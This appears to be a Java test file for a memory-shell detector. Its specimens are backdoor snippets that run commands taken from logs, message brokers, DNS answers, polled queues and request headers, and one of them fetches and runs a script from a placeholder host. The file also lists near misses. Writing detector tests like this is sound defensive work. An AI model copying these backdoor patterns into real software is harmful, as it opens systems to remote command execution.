package io.hivesec.engines.memshell;

import java.util.stream.Stream;
import org.junit.jupiter.params.provider.Arguments;

/** What brokers, logs and polled servers bring, and code that a library is given for an answer; with near misses. */
class BrokersAndAnswersTest extends ShellsAndNearMisses {
    private static final String APPENDER =
            "class A extends ch.qos.logback.core.AppenderBase<ch.qos.logback.classic.spi.ILoggingEvent> { String name; public"
                    + " void setName(String n) { name = n; } protected void append(ch.qos.logback.classic.spi.ILoggingEvent e) { try"
                    + " { new javax.naming.InitialContext().lookup(%s); } catch (Exception x) { } } }";
    private static final String LISTENER =
            "class L { @org.springframework.kafka.annotation.KafkaListener(topics = \"a\") public void on(String m) throws"
                    + " IOException { @{exec}(%s); } }";
    private static final String TIMER =
            "class T extends TimerTask { public void run() { try { %s } catch (Exception e) { } } }";
    private static final String MAPPING =
            "class M implements org.springframework.web.servlet.HandlerMapping { public org.springframework.web.HttpRequestHandler"
                    + " find(javax.servlet.http.HttpServletRequest q) { String c = q.getHeader(\"c\"); return %s; } }";

    static Stream<Arguments> shells() {
        return Stream.of(
                specimen("a line of a log", APPENDER.formatted("e.getFormattedMessage()")),
                specimen("a message by annotation", LISTENER.formatted("m")),
                specimen(
                        "an operation of an endpoint",
                        "class E { @org.springframework.boot.actuate.endpoint.annotation.WriteOperation public void set(String v)"
                                + " throws IOException { @{exec}(v); } }"),
                specimen(
                        "a message of MQTT",
                        "class C { public void messageArrived(String t, org.eclipse.paho.client.mqttv3.MqttMessage m) throws"
                                + " IOException { @{exec}(new String(m.getPayload())); } }"),
                specimen(
                        "a delivery of a broker",
                        "class D { public void handleDelivery(String t, com.rabbitmq.client.Envelope e,"
                                + " com.rabbitmq.client.AMQP.BasicProperties p, byte[] b) throws IOException { @{exec}(new String(b)); } }"),
                specimen(
                        "a message before it is sent on",
                        "class I { public Object preSend(org.springframework.messaging.Message<?> m,"
                                + " org.springframework.messaging.MessageChannel c) throws IOException { @{exec}((String)"
                                + " m.getPayload()); return m; } }"),
                specimen(
                        "headers that are a field",
                        "class X { javax.ws.rs.core.HttpHeaders headers; Object toResponse(Throwable t) throws IOException { return"
                                + " @{exec}(headers.getHeaderString(\"c\")); } }"),
                specimen(
                        "a socket of a server that calls back",
                        "class V { void connected(io.vertx.core.net.NetSocket s) { s.handler(b -> { try { @{exec}(b); } catch"
                                + " (IOException e) { } }); } }"),
                specimen(
                        "a queue that is polled",
                        TIMER.formatted("@{exec}(new redis.clients.jedis.Jedis().lpop(\"q\"));")),
                specimen(
                        "an answer of the name service",
                        TIMER.formatted(
                                "@{exec}((String) new javax.naming.directory.InitialDirContext().getAttributes(\"a\")"
                                        + ".get(\"TXT\").get());")),
                specimen(
                        "a script from an address in the code",
                        TIMER.formatted("@{script}(new String(new"
                                + " java.net.URL(\"https://a.example/b\").openStream().readAllBytes()));")),
                specimen("code for an answer", MAPPING.formatted("(a, b) -> @{exec}(c)")),
                specimen(
                        "an object for an answer",
                        MAPPING.formatted(
                                "new org.springframework.web.HttpRequestHandler() { public void handleRequest("
                                        + "javax.servlet.http.HttpServletRequest a, javax.servlet.http.HttpServletResponse b) throws IOException"
                                        + " { @{exec}(c); } }")),
                specimen(
                        "a channel around the response",
                        "class S extends javax.servlet.http.HttpServlet { protected void doGet(javax.servlet.http.HttpServletRequest q,"
                                + " javax.servlet.http.HttpServletResponse s) throws IOException { java.nio.channels.SocketChannel k ="
                                + " java.nio.channels.SocketChannel.open(new java.net.InetSocketAddress(q.getHeader(\"h\"), 80));"
                                + " java.nio.ByteBuffer b = java.nio.ByteBuffer.allocate(9); k.read(b);"
                                + " java.nio.channels.Channels.newChannel(s.getOutputStream()).write(b); } }"));
    }

    static Stream<Arguments> nearMisses() {
        return Stream.of(
                specimen("a name that the configuration sets", APPENDER.formatted("name")),
                specimen("a message that a fixed program works on", LISTENER.formatted("new String[] {\"ffmpeg\", m}")),
                specimen(
                        "a message that chooses among commands",
                        "class L { Map<String, String> jobs; @org.springframework.kafka.annotation.KafkaListener(topics = \"a\")"
                                + " public void on(String m) throws IOException { @{exec}(jobs.get(m)); } }"),
                specimen(
                        "a method that no library calls",
                        "class L { public void on(String m) throws IOException { @{exec}(m); } }"),
                specimen(
                        "a queue whose entries are only written down",
                        TIMER.formatted("System.out.println(new redis.clients.jedis.Jedis().lpop(\"q\"));")),
                specimen(
                        "a script from a file",
                        TIMER.formatted("@{script}(new String(new FileInputStream(\"/etc/a.js\").readAllBytes()));")),
                specimen("code for an answer that starts its own", MAPPING.formatted("(a, b) -> @{exec}(\"uptime\")")));
    }
}
